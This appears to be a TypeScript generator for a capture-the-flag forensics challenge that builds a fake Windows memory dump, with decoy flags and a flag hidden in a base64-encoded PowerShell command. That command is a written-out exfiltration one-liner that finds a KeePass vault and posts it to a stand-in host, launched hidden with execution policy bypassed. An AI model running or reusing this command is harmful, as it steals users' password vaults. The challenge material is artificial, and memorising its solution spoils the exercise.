import type { FileGenerator, GeneratedFile, GeneratorInput } from '../generator.js';
import { encodeText, fillCodePage, fillHeapPage, fillImageHeaderPage, PAGE_SIZE } from '../lib/memory-pages.js';
import { createSeedStream, type SeedStream } from '../lib/seed-stream.js';

const PAGE_COUNT = 512; // 2 MiB

/** Strings a Windows process keeps around. The decoys look like flags but none is `CTF{...}`. */
const HEAP_STRINGS: readonly string[] = [
  'C:\\Windows\\System32\\ntdll.dll',
  'C:\\Windows\\System32\\KERNEL32.DLL',
  'C:\\Windows\\System32\\KERNELBASE.dll',
  'C:\\Windows\\System32\\ucrtbase.dll',
  'C:\\Windows\\System32\\WS2_32.dll',
  'C:\\Windows\\System32\\bcrypt.dll',
  'C:\\Windows\\System32\\winhttp.dll',
  'C:\\Windows\\System32\\advapi32.dll',
  'C:\\Program Files\\BackupAgent\\libcurl.dll',
  'C:\\Program Files\\BackupAgent\\backup-agent.exe',
  'C:\\ProgramData\\BackupAgent\\agent.log',
  'C:\\Users\\svc_backup\\AppData\\Local\\Temp',
  'api-ms-win-core-synch-l1-2-0.dll',
  'api-ms-win-crt-runtime-l1-1-0.dll',
  'VCRUNTIME140.dll',
  'msvcp140.dll',
  'HKEY_LOCAL_MACHINE\\SOFTWARE\\BackupAgent\\Schedule',
  'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion',
  'GET /api/v2/jobs/pending HTTP/1.1',
  'POST /api/v2/jobs/1187/status HTTP/1.1',
  'Host: backup.corp.example.com',
  'User-Agent: BackupAgent/3.4.1 (Windows NT 10.0; Win64; x64)',
  'Accept: application/json',
  'Content-Type: application/json',
  'Connection: keep-alive',
  'HTTP/1.1 200 OK',
  'HTTP/1.1 401 Unauthorized',
  'Server: nginx/1.24.0',
  '{"job":1187,"state":"running","files":2311}',
  '{"error":"token expired"}',
  'Cookie: theme=dark; lang=en',
  'https://backup.corp.example.com/api/v2/',
  'https://crl.example.net/ca.crl',
  'connection reset by peer',
  'Failed to open volume shadow copy (0x8004230f)',
  'Retrying in %d seconds',
  'upload chunk %zu/%zu (%llu bytes)',
  'FLAG{not_the_flag_keep_looking}',
  'flag{th1s_1s_a_d3coy}',
  'HTB{wrong_platform}',
  'THM{decoy_not_accepted}',
  'password=********',
  'token=<redacted>',
  'SeBackupPrivilege',
  'SeRestorePrivilege',
  'S-1-5-21-3623811015-3361044348-30300820-1013',
  'kernel32.dll!CreateFileW',
  'ntdll.dll!NtWaitForSingleObject',
  'RtlUserThreadStart',
  'BaseThreadInitThunk',
  'D:\\a\\_work\\1\\s\\src\\agent\\uploader.cpp',
  'std::bad_alloc',
  'invalid string position',
  'Unknown exception',
];

const ENVIRONMENT: readonly string[] = [
  'ALLUSERSPROFILE=C:\\ProgramData',
  'APPDATA=C:\\Users\\svc_backup\\AppData\\Roaming',
  'COMPUTERNAME=FILESRV01',
  'ComSpec=C:\\Windows\\system32\\cmd.exe',
  'LOCALAPPDATA=C:\\Users\\svc_backup\\AppData\\Local',
  'NUMBER_OF_PROCESSORS=4',
  'OS=Windows_NT',
  'Path=C:\\Windows\\system32;C:\\Windows;C:\\Windows\\System32\\Wbem;C:\\Program Files\\BackupAgent',
  'PATHEXT=.COM;.EXE;.BAT;.CMD;.VBS;.JS;.WSH;.MSC',
  'PROCESSOR_ARCHITECTURE=AMD64',
  'ProgramData=C:\\ProgramData',
  'ProgramFiles=C:\\Program Files',
  'PUBLIC=C:\\Users\\Public',
  'BACKUP_SERVER=https://backup.corp.example.com',
  'SystemDrive=C:',
  'SystemRoot=C:\\Windows',
  'TEMP=C:\\Users\\svc_backup\\AppData\\Local\\Temp',
  'TMP=C:\\Users\\svc_backup\\AppData\\Local\\Temp',
  'USERDOMAIN=CORP',
  'USERNAME=svc_backup',
  'USERPROFILE=C:\\Users\\svc_backup',
  'windir=C:\\Windows',
];

/** The process environment: NUL-separated `NAME=value`, ending with an extra NUL, in a zeroed page. */
function buildEnvironmentPage(encoding: 'ascii' | 'utf16', offset: number): Buffer {
  const block = `${ENVIRONMENT.join('\0')}\0\0`;
  const page = Buffer.alloc(PAGE_SIZE);
  encodeText(block, encoding).copy(page, offset);
  return page;
}

/** What `powershell -EncodedCommand` takes: base64 of the script in UTF-16LE. */
function encodePowerShell(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

/** The attacker's one-liner: it uploads the password vault with the flag as its API key. */
function buildAttackScript(flag: string): string {
  return (
    `$k='${flag}';$f=Get-ChildItem "$env:USERPROFILE\\Documents" -Filter *.kdbx -Recurse|Select-Object -First 1;` +
    "Invoke-RestMethod -Uri 'https://cdn-update.example.net/api/u' -Method Post -Headers @{'X-Api-Key'=$k} -InFile $f.FullName"
  );
}

const ADMIN_SCRIPT =
  "Get-Service -Name 'BackupAgent' | Select-Object Status, StartType | Out-File C:\\ProgramData\\BackupAgent\\health.txt";

/**
 * A process's command line as Windows keeps it (RTL_USER_PROCESS_PARAMETERS.CommandLine, a UNICODE_STRING): UTF-16LE
 * only, so `strings -el` shows it and plain `strings` does not.
 */
function buildCommandLinePage(random: SeedStream, commandLine: string): Buffer {
  const page = fillHeapPage(random, HEAP_STRINGS);
  const text = Buffer.from(`${commandLine}\0`, 'utf16le');
  const offset = random.nextIntBetween(4, 16) * 16;
  page.fill(0, offset - 16, offset + text.length + 16);
  page.writeUInt16LE(text.length - 2, offset - 16); // Length
  page.writeUInt16LE(text.length, offset - 14); // MaximumLength
  text.copy(page, offset);
  return page;
}

/**
 * `memory.dmp`: a raw 2 MiB memory image of a Windows workstation (zero pages, high-entropy data, code, heap pages
 * full of paths, DLL names, HTTP traffic and decoy flags, the process environment). The flag is in the command line
 * of the attacker's PowerShell, kept in UTF-16LE, inside its `-EncodedCommand` argument (base64 of UTF-16LE text);
 * a routine admin command is encoded the same way. No copy of the flag is readable as is: `strings` (ASCII or
 * UTF-16) finds the command line, then base64 and UTF-16 decoding find the flag.
 */
export const generateMemoryDump: FileGenerator = ({ flag, seed }: GeneratorInput): GeneratedFile => {
  const random = createSeedStream(seed, 'memory-dump');
  const attack = `"${POWERSHELL}" -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand ${encodePowerShell(buildAttackScript(flag))}`;
  const routine = `"${POWERSHELL}" -NoProfile -NonInteractive -EncodedCommand ${encodePowerShell(ADMIN_SCRIPT)}`;
  const environmentPages = new Map([
    [random.nextIntBetween(40, 140), buildEnvironmentPage('utf16', random.nextInt(64) * 16)],
    [random.nextIntBetween(150, 250), buildCommandLinePage(random, routine)],
    [random.nextIntBetween(260, 380), buildEnvironmentPage('ascii', random.nextInt(128) * 16)],
    [random.nextIntBetween(390, 480), buildCommandLinePage(random, attack)],
  ]);
  const imagePage = random.nextIntBetween(8, 30);
  const pages = Array.from({ length: PAGE_COUNT }, (_, index): Buffer => {
    const environment = environmentPages.get(index);
    if (environment) return environment;
    if (index === imagePage) return fillImageHeaderPage(random, ['.text', '.rdata', '.data', '.pdata', '.rsrc', '.reloc']);
    // Runs of the same kind, as real address spaces have.
    const kind = Math.floor(index / 8 + random.nextInt(2)) % 7;
    if (index < 4 || kind === 0 || kind === 3) return Buffer.alloc(PAGE_SIZE);
    if (kind === 1) return fillCodePage(random);
    if (kind === 5) return random.nextBytes(PAGE_SIZE);
    return fillHeapPage(random, HEAP_STRINGS);
  });
  return { fileName: 'memory.dmp', contentType: 'application/octet-stream', data: Buffer.concat(pages) };
};
